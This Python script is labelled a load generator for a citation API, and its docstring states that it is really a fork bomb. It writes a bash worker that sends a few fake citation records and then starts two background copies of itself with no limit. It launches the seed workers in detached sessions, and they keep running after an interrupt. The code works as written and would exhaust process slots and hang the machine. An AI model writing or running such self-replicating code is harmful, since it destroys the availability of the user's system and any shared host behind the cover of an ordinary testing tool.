#!/usr/bin/env python3
"""Citation API "load generator".

Meant to stress-test the citation intake service, but each worker is a
generated shell script that, after sending its requests, starts two new
copies of itself in the background with no depth or count limit. The
process count doubles every generation until the machine runs out of
process slots.
"""
import argparse
import logging
import os
import subprocess
import sys
import textwrap
from pathlib import Path

WORKER = Path("citation_worker.sh")

WORKER_BODY = textwrap.dedent("""\
    #!/usr/bin/env bash
    # citation load worker: send a burst, then fan out
    gen=$(( ${LOAD_GEN:-0} + 1 ))
    export LOAD_GEN=$gen
    for i in $(seq 1 "${BURST:-5}"); do
        python3 -c 'import json, os, random, time
    print(json.dumps({"plate": "TST%04d" % random.randint(0, 9999),
                      "meter": os.environ.get("METER", "M-0001"),
                      "t": time.time()}))' > /dev/null
    done
    # fan out: every worker starts two more copies of this very script
    "$0" &
    "$0" &
    wait
    """)

log = logging.getLogger("citation_load")


def prepare_worker(burst, meter):
    WORKER.write_text(WORKER_BODY)
    WORKER.chmod(0o755)
    log.info("worker script written: %s (burst=%d, meter=%s)", WORKER, burst, meter)


def launch(seeds, burst, meter):
    env = dict(os.environ, BURST=str(burst), METER=meter, LOAD_GEN="0")
    procs = []
    for _ in range(seeds):
        procs.append(subprocess.Popen([str(WORKER.resolve())], env=env,
                                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                      start_new_session=True))
    return procs


def main(argv=None):
    ap = argparse.ArgumentParser(description="Generate citation API load")
    ap.add_argument("--seeds", type=int, default=4, help="initial workers")
    ap.add_argument("--burst", type=int, default=5, help="requests per worker")
    ap.add_argument("--meter", default="M-0001")
    ap.add_argument("--no-wait", action="store_true", help="return after launching")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if args.seeds < 1 or args.burst < 1:
        log.error("--seeds and --burst must be positive")
        return 2
    try:
        prepare_worker(args.burst, args.meter)
        procs = launch(args.seeds, args.burst, args.meter)
    except OSError as exc:
        log.error("cannot start workers: %s", exc)
        return 1
    log.info("launched %d seed worker(s): %s", len(procs), [p.pid for p in procs])
    if args.no_wait:
        return 0
    try:
        for p in procs:
            p.wait()
    except KeyboardInterrupt:
        log.warning("interrupted; seed workers left running")
        return 130
    return 0


if __name__ == "__main__":
    sys.exit(main())
